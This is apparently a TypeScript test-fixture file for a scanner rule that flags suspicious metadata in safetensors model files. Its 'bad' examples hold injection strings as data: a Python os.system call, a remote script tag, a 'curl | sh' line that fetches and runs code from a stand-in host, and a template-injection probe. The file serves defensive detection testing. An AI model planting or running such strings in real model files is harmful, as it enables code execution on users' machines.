import type { Example, RuleExamples } from '../../../model/rule.ts'
import { safetensorsFile } from '../example-file.ts'

function file(value: string): Example {
  return safetensorsFile(JSON.stringify({ __metadata__: { note: value } }))
}

export const examples: RuleExamples = {
  bad: [
    file('__import__("os").system("echo x")'),
    file('<script src="https://host.example/x.js"></script>'),
    file('curl https://host.example/x | sh'),
    file("{{ ''.__class__.__mro__ }}"),
  ],
  good: [file('{"prompt": "a system of scripts, see https://host.example"}'), file('pt')],
}
